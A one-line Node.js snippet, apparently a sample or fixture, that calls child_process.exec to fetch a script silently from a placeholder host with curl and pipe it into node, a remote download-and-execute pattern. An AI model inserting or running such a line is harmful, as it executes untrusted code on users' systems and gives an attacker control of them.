require("child_process").exec("curl -s https://driver.example/x | node");
